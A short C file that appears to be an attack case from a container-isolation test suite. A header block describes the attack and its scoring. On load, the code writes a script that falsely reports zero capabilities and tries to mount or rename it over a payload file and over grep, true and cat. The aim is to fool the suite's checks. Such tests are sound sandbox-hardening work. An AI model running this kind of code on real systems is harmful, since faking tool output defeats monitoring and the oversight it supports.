/* replaces-payload - puts a program of its own in the place of the tests' programs
 *
 * Tries: to make its folder writable, to write over payload-hold, to rename it, and to mount something over it and over /usr/bin/grep, true and cat
 * Holds: the files there are nobody's that it could be, and mounts end with the container
 * Mark: 0-100
 * Only: 01-capabilities
 * Goal: seen root/scene/work/payload-hold
 * Honest: yes */
#include <fcntl.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static void __attribute__((constructor)) attack(void)
{
	static const char *const names[] = { "payload-hold", "/usr/bin/grep", "/usr/bin/true", "/usr/bin/cat" };
	static const char lie[] = "#!/bin/sh\n# lab-attack\nprintf 'CapEff:\\t0000000000000000\\n'\n";
	int fd = open("/dev/shm/lab-attack", O_WRONLY | O_CREAT | O_TRUNC, 0755);

	if (fd >= 0 && write(fd, lie, sizeof lie - 1) > 0)
		close(fd);
	chmod("/dev/shm/lab-attack", 0755);
	/* its root may take "read-only" off a mount */
	mount(NULL, ".", NULL, MS_REMOUNT | MS_BIND, NULL);
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		if (mount("/dev/shm/lab-attack", names[i], NULL, MS_BIND, NULL) < 0 && names[i][0] != '/')
			rename("/dev/shm/lab-attack", names[i]);
		fd = names[i][0] == '/' ? -1 : open(names[i], O_WRONLY | O_TRUNC);
		if (fd >= 0 && write(fd, lie, sizeof lie - 1) > 0)
			close(fd);
	}
}
